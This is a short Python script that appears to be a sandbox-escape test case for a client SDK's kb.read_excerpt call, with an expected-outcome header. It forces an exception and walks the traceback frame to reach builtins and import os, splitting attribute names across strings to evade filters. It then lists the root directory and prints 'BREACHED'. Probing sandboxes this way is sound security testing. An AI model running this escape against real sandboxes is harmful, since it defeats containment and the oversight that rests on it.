# fence: rejected | walls: error
from client_sdk import kb
class Passage(dict):
    def __getitem__(self, name):
        raise ValueError(name)
try:
    kb.read_excerpt(Passage(passage_id="a"))
except ValueError as error:
    trace = getattr(error, "__trace" + "back__")
frame = getattr(getattr(trace, "tb_" + "next"), "tb_" + "frame")
os = getattr(frame, "f_" + "builtins")["__import__"]("os")
print("BREACHED" if os.listdir("/") else "empty")
